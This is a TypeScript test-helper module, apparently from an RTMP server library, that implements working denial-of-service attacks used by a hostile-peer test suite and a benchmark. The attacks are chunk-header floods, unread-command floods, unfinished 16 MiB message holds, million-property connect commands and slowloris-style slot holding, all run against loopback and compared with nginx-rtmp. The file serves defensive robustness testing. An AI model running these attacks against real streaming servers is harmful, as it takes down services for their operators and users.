import { connect, Socket } from 'net';
import { encodeAmf0Values } from '../../../libs/rtmp/src/protocol/amf';
import { ChunkWriter } from '../../../libs/rtmp/src/protocol/chunk';
import { buildConnectObject, encodeCommand } from '../../../libs/rtmp/src/protocol/command';
import { ClientHandshake } from '../../../libs/rtmp/src/protocol/handshake';
import {
  createSetChunkSizeMessage,
  MessageType,
  RtmpMessage,
} from '../../../libs/rtmp/src/protocol/message';

/*
 * Hostile peers, each one the shape of an attack on an RTMP server that needs no stream key.
 * They speak just enough RTMP to get where the attack starts, then do only what the attack
 * needs. Shared by the hostile-peer suite and the hostile-traffic benchmark, which runs them
 * against this library and nginx-rtmp alike.
 */

/** How an attack ended, from the attacker's side. */
export interface AttackResult {
  /** Bytes the attacker wrote. */
  readonly bytesSent: number;
  /** Whether the server closed the connection(s) before the attacker was done. */
  readonly closedByServer: boolean;
}

/** Opens a TCP connection from `localAddress` (any 127.x.y.z) to the server. */
export function openSocket(port: number, localAddress = '127.0.0.1'): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress }, () => resolve(socket));
    socket.setNoDelay(true);
    socket.once('error', reject);
  });
}

/** Connects and completes the RTMP handshake; resolves with the socket, reading nothing more. */
export async function handshake(port: number, localAddress?: string): Promise<Socket> {
  const socket = await openSocket(port, localAddress);
  socket.on('error', () => undefined);
  const client = new ClientHandshake();
  await new Promise<void>((resolve, reject) => {
    const onData = (data: Buffer): void => {
      const progress = client.push(data);
      if (progress.output !== undefined) socket.write(progress.output);
      if (progress.complete) {
        socket.off('data', onData);
        resolve();
      }
    };
    socket.on('data', onData);
    socket.once('close', () => reject(new Error('closed during the handshake')));
    const start = client.start();
    socket.write(start);
  });
  return socket;
}

/** Resolves once `socket` is closed. */
export function whenClosed(socket: Socket): Promise<void> {
  return socket.destroyed && socket.readyState === 'closed'
    ? Promise.resolve()
    : new Promise((resolve) => socket.once('close', () => resolve()));
}

/** Writes `data` and resolves when it left (or the socket closed). */
function write(socket: Socket, data: Buffer): Promise<void> {
  return new Promise((resolve) => {
    if (socket.destroyed) return resolve();
    socket.write(data, () => resolve());
  });
}

function wire(writer: ChunkWriter, message: RtmpMessage): Buffer {
  return Buffer.concat(writer.encode(message));
}

/** A connect command for app `live`, as a chunked message. */
export function connectMessage(writer: ChunkWriter, extra: Record<string, unknown> = {}): Buffer {
  const object = {
    ...buildConnectObject({ app: 'live', tcUrl: 'rtmp://127.0.0.1/live' }),
    ...extra,
  };
  return wire(writer, {
    chunkStreamId: 3,
    messageStreamId: 0,
    typeId: MessageType.CommandAmf0,
    timestamp: 0,
    payload: encodeAmf0Values(['connect', 1, object]),
  });
}

/**
 * Defect 1's attack: SetChunkSize 1, then 9-byte units, each an fmt 1 header announcing a
 * message of `announced` bytes (16 MiB by default) on one chunk stream plus its first byte, so
 * that every header abandons the message the previous one started. Sends up to `maxBytes`.
 */
export async function abandonedMessageFlood(
  port: number,
  maxBytes: number,
  announced = 0xffffff,
): Promise<AttackResult> {
  const socket = await handshake(port);
  const writer = new ChunkWriter();
  const unit = Buffer.from([
    0x44,
    0,
    0,
    0,
    announced >> 16,
    (announced >> 8) & 0xff,
    announced & 0xff,
    9,
    0,
  ]);
  const setChunkSize = wire(writer, createSetChunkSizeMessage(1));
  await write(socket, setChunkSize);
  return repeatUntilClosed(socket, unit, setChunkSize.length, maxBytes);
}

/**
 * Defect 2's attack: connect, then stop reading and send `command` (createStream, FCPublish)
 * over and over, each provoking a reply, until `maxBytes` are sent or the server closes.
 */
export async function unreadCommandFlood(
  port: number,
  command: 'createStream' | 'FCPublish',
  maxBytes: number,
): Promise<AttackResult> {
  const socket = await handshake(port);
  const writer = new ChunkWriter();
  const connect = connectMessage(writer);
  await write(socket, connect);
  socket.pause();
  const args = command === 'createStream' ? undefined : ['attack-name'];
  const one = wire(writer, {
    chunkStreamId: 3,
    messageStreamId: 0,
    typeId: MessageType.CommandAmf0,
    timestamp: 0,
    payload: encodeCommand({ name: command, transactionId: 2, args }),
  });
  return repeatUntilClosed(socket, one, connect.length, maxBytes);
}

/**
 * Writes `unit` over and over, in batches of about 64 KiB, until `maxBytes` (counting
 * `alreadySent`) are sent or the server has closed the socket; then closes it.
 */
async function repeatUntilClosed(
  socket: Socket,
  unit: Buffer,
  alreadySent: number,
  maxBytes: number,
): Promise<AttackResult> {
  const batch = Buffer.concat(Array.from({ length: Math.ceil(65_536 / unit.length) }, () => unit));
  let bytesSent = alreadySent;
  while (bytesSent < maxBytes && !socket.destroyed) {
    await write(socket, batch);
    bytesSent += batch.length;
  }
  // The kernel's buffers may take every byte before the server's close is seen: wait for it.
  await Promise.race([whenClosed(socket), new Promise((resolve) => setTimeout(resolve, 1_000))]);
  const closedByServer = socket.destroyed;
  socket.destroy();
  return { bytesSent, closedByServer };
}

/**
 * Defect 3's first attack: `connections` connections, each starting two messages of `typeId`
 * (video by default) that announce `announced` bytes (16 MiB by default) on two chunk streams
 * and sending about `bytesEach` of each (whole 64 KiB chunks, interleaved), then holding them
 * unfinished.
 * Resolves, a second after every byte is written, with the sockets the server left open.
 */
export async function unfinishedMessageHold(
  port: number,
  connections: number,
  bytesEach: number,
  announced = 0xffffff,
  typeId: number = MessageType.Video,
): Promise<{ readonly sockets: Socket[]; readonly result: AttackResult }> {
  const chunkSize = 64 * 1024;
  const length = [announced >> 16, (announced >> 8) & 0xff, announced & 0xff];
  // Whole chunks only: a chunk cut short would swallow the next chunk's header.
  const sent = Math.floor(Math.min(bytesEach, announced - 1) / chunkSize) * chunkSize;
  let bytesSent = 0;
  const sockets = await Promise.all(
    Array.from({ length: connections }, async () => {
      const socket = await handshake(port);
      const setChunkSize = wire(new ChunkWriter(), createSetChunkSizeMessage(chunkSize));
      await write(socket, setChunkSize);
      bytesSent += setChunkSize.length;
      for (let offset = 0; offset < sent && !socket.destroyed; offset += chunkSize) {
        for (const chunkStreamId of [4, 5]) {
          // fmt 0 opens each message; fmt 3 continues it (RTMP interleaves whole chunks).
          const header =
            offset === 0
              ? Buffer.from([chunkStreamId, 0, 0, 0, ...length, typeId, 1, 0, 0, 0])
              : Buffer.from([0xc0 | chunkStreamId]);
          const body = Buffer.alloc(Math.min(chunkSize, sent - offset), 7);
          await write(socket, Buffer.concat([header, body]));
          bytesSent += header.length + body.length;
        }
      }
      return socket;
    }),
  );
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  const open = sockets.filter((socket) => !socket.destroyed);
  return { sockets: open, result: { bytesSent, closedByServer: open.length < sockets.length } };
}

/**
 * A connect command whose object has `properties` more properties (a few bytes each on the
 * wire), for {@link hugeConnectFlood}. Built ahead: encoding a million properties takes the
 * attacker a while, which is not the server's cost.
 */
export function hugeConnectMessage(properties: number): Buffer {
  const wide: Record<string, null> = {};
  for (let i = 0; i < properties; i++) wide[`p${i}`] = null;
  return connectMessage(new ChunkWriter(), { wide });
}

/** Defect 3's second attack: `connections` connections each sending `message` (a connect). */
export async function hugeConnectFlood(
  port: number,
  connections: number,
  message: Buffer,
): Promise<AttackResult> {
  let closed = 0;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      const socket = await handshake(port);
      await write(socket, message);
      // Either the server closes (refused), or it answers; give it a moment to decide.
      await Promise.race([whenClosed(socket), new Promise((r) => setTimeout(r, 2_000))]);
      if (socket.destroyed) closed += 1;
      socket.destroy();
    }),
  );
  return { bytesSent: message.length * connections, closedByServer: closed === connections };
}

/**
 * Defect 4's attack: `count` connections from `addresses` loopback addresses, each sending one
 * handshake byte now and then and never finishing; one the server closes is replaced at once.
 * Runs until `stop()`.
 */
export class SlotHolders {
  private stopped = false;
  private readonly sockets = new Set<Socket>();
  /** Connections opened, replacements included. */
  opened = 0;
  /** Connections the server closed. */
  closedByServer = 0;
  private readonly ready: Promise<void>;

  /**
   * @param redialMs how soon a connection the server closed is replaced: at once to a person,
   *   but not a busy loop.
   */
  constructor(
    private readonly port: number,
    count: number,
    private readonly addresses: readonly string[],
    private readonly dribbleMs = 500,
    private readonly redialMs = 100,
  ) {
    this.ready = Promise.all(Array.from({ length: count }, (_, i) => this.hold(i))).then(
      () => undefined,
    );
  }

  /** Resolves once every first connection is open. */
  whenHolding(): Promise<void> {
    return this.ready;
  }

  get holding(): number {
    return this.sockets.size;
  }

  stop(): void {
    this.stopped = true;
    for (const socket of this.sockets) socket.destroy();
    this.sockets.clear();
  }

  private async hold(index: number): Promise<void> {
    if (this.stopped) return;
    const address = this.addresses[index % this.addresses.length];
    let socket: Socket;
    try {
      socket = await openSocket(this.port, address);
    } catch {
      setTimeout(() => void this.hold(index), 50).unref();
      return;
    }
    this.opened += 1;
    this.sockets.add(socket);
    socket.on('error', () => undefined);
    socket.write(Buffer.from([3]));
    const dribble = setInterval(() => socket.write(Buffer.from([0])), this.dribbleMs);
    dribble.unref();
    socket.once('close', () => {
      clearInterval(dribble);
      this.sockets.delete(socket);
      if (this.stopped) return;
      this.closedByServer += 1;
      setTimeout(() => void this.hold(index), this.redialMs).unref();
    });
  }
}

/** Milliseconds a fresh client takes to complete the handshake (rejects past `timeoutMs`). */
export async function handshakeLatency(port: number, timeoutMs = 5_000): Promise<number> {
  const start = performance.now();
  const socket = await Promise.race([
    handshake(port, '127.0.0.250'),
    new Promise<never>((_, reject) =>
      setTimeout(() => reject(new Error(`no handshake within ${timeoutMs} ms`)), timeoutMs),
    ),
  ]);
  const elapsed = performance.now() - start;
  socket.destroy();
  return elapsed;
}
